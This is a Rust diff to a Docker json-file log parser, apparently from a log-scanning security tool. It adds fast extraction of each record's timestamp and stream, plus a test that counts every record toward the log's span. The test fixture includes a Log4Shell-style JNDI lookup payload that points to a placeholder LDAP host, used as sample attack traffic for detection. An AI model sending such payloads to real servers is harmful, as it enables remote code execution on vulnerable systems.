@@ -3,6 +3,9 @@
 //! come in parts whose `log` lacks the final newline, joined per stream (across rotated
 //! files too) before they are evaluated. The record's time and stream are the object's.
 
+use std::sync::LazyLock;
+
+use memchr::memmem::FinderRev;
 use serde::Deserialize;
 
 use super::{without_bom, Cutter, Framing};
@@ -59,8 +62,9 @@ impl Cutter for JsonFileCutter {
         if raw.is_empty() {
             return;
         }
-        let partial =
-            raw.starts_with(b"{\"log\":\"") && memchr::memmem::rfind(raw, b"\\n\",\"stream\"").is_none();
+        let (time, stream) = time_and_stream(raw);
+        out.count_record(time, stream);
+        let partial = raw.starts_with(b"{\"log\":\"") && NEWLINE_END.rfind(raw).is_none();
         if !partial && !out.has_pending() && !out.is_candidate(raw) {
             return;
         }
@@ -112,6 +116,25 @@ impl Cutter for JsonFileCutter {
     }
 }
 
+/// A record's `time` and `stream`, read without decoding the object (every record is counted
+/// for the log's span; only candidates are decoded). Docker writes them after `log`, whose
+/// quotes are escaped, so the last `"time":"` and `"stream":"` are the record's own.
+fn time_and_stream(raw: &[u8]) -> (Option<Timestamp>, &[u8]) {
+    let field = |finder: &FinderRev<'static>| {
+        let at = finder.rfind(raw)? + finder.needle().len();
+        let len = memchr::memchr(b'"', &raw[at..])?;
+        Some(&raw[at..at + len])
+    };
+    let time = field(&TIME).and_then(|t| std::str::from_utf8(t).ok()).and_then(Timestamp::parse_rfc3339);
+    (time, field(&STREAM).unwrap_or_default())
+}
+
+/// The searches every record makes, built once (building a finder per line cost more than
+/// the search).
+static NEWLINE_END: LazyLock<FinderRev<'static>> = LazyLock::new(|| FinderRev::new(b"\\n\",\"stream\""));
+static TIME: LazyLock<FinderRev<'static>> = LazyLock::new(|| FinderRev::new(b"\"time\":\""));
+static STREAM: LazyLock<FinderRev<'static>> = LazyLock::new(|| FinderRev::new(b"\"stream\":\""));
+
 #[cfg(test)]
 mod tests {
     use super::*;
@@ -120,6 +143,25 @@ mod tests {
     use crate::logscan::records::ScanConfig;
     use crate::logscan::stream::scan_stream;
     use crate::model::Locator;
+
+    #[test]
+    fn every_record_is_counted_for_the_span_not_only_candidates() {
+        let engine = Engine::builtin().unwrap();
+        let loc = Locator::artifact("x-json.log");
+        let json = concat!(
+            "{\"log\":\"up \\\"time\\\":\\\"2030-01-01T00:00:00Z\\\"\\n\",\"stream\":\"stdout\",\"time\":\"2026-11-27T14:00:00Z\"}\n",
+            "not json at all\n",
+            "{\"log\":\"GET /?x=${jndi:ldap://e.example/a}\\n\",\"stream\":\"stderr\",\"time\":\"2026-11-27T15:00:00.5Z\"}\n",
+            "{\"log\":\"bye\\n\",\"stream\":\"stdout\",\"time\":\"bad\"}\n",
+        );
+        let scan = scan_stream(json.as_bytes(), &JsonFile, &engine, &ScanConfig::default(), &loc, 0);
+        let s = scan.span.unwrap();
+        assert_eq!((s.records, s.stdout, s.stderr, s.undated), (4, 2, 1, 2));
+        // The escaped `"time":"` inside the message is not the record's time.
+        assert_eq!(s.first.map(|t| t.to_iso()).as_deref(), Some("2026-11-27T14:00:00.000000000Z"));
+        assert_eq!(s.last.map(|t| t.to_iso()).as_deref(), Some("2026-11-27T15:00:00.500000000Z"));
+        assert_eq!(s.bytes, json.len() as u64);
+    }
 
     #[test]
     fn partial_records_never_join_across_streams() {
